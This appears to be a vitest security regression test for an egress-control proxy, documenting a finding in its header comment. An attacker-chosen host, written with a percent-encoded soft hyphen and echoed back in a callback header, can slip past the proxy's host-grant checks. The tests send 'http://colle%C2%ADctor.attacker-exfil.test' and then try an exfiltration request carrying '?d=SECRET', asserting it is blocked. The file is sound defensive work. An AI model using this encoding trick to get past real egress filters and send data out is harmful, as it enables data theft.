// FINDING (extends grant-reflection-ignorables): the run check (8+ letters/digits) looks at path, query and body
// only, and the whole-host check misses IDNA-ignored code points; so through an API that echoes a request header
// (a callback URL, a Referer, the User-Agent in a debug field), a host of ANY length is self-granted when written
// with a percent-encoded soft hyphen: the echoed `http://colle%C2%ADctor.attacker-exfil.test/` parses (WHATWG URL:
// percent-decode the host, then UTS 46 drops U+00AD) to `collector.attacker-exfil.test`.

import { afterAll, beforeAll, expect, it } from 'vitest';
import { curl } from '../helpers/clients.js';
import { startHttpOrigin, type TestOrigin } from '../helpers/origin.js';
import { policy, startLeash, type TestLeash } from '../helpers/leash.js';

let api: TestOrigin;
let sink: TestOrigin;
let leash: TestLeash;
const host = 'collector.attacker-exfil.test';

beforeAll(async () => {
  sink = await startHttpOrigin();
  api = await startHttpOrigin((req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ job: 'queued', callback: req.headers['x-callback-url'] ?? null }));
  });
  leash = await startLeash(
    policy(`
settings:
  dns: { hosts: { jobs.test: 127.0.0.1, ${host}: 127.0.0.1 } }
  network: { allowCidrs: ["127.0.0.0/8"] }
rules:
  - { name: jobs, domain: jobs.test, ports: [${api.port}], inspect: [json], effect: allow }
`),
  );
});

afterAll(async () => {
  await leash?.stop();
  await api?.close();
  await sink?.close();
});

it('control (holds): the plain host in an echoed header is not granted', async () => {
  await curl({
    url: `http://jobs.test:${api.port}/jobs`,
    proxy: leash.url,
    headers: { 'X-Callback-Url': `http://${host}:${sink.port}/` },
  });
  expect((await curl({ url: `http://${host}:${sink.port}/c?d=1`, proxy: leash.url })).status).toBe(403);
});

it('a long attacker host echoed from a header with a percent-encoded soft hyphen is not granted', async () => {
  const spelled = `http://colle%C2%ADctor.attacker-exfil.test:${sink.port}/`;
  expect(
    (await curl({ url: `http://jobs.test:${api.port}/jobs`, proxy: leash.url, headers: { 'X-Callback-Url': spelled } }))
      .status,
  ).toBe(200);
  const exfil = await curl({ url: `http://${host}:${sink.port}/c?d=SECRET`, proxy: leash.url });
  expect({ status: exfil.status, sinkSaw: sink.seen.map((s) => s.url) }).toEqual({ status: 403, sinkSaw: [] });
});
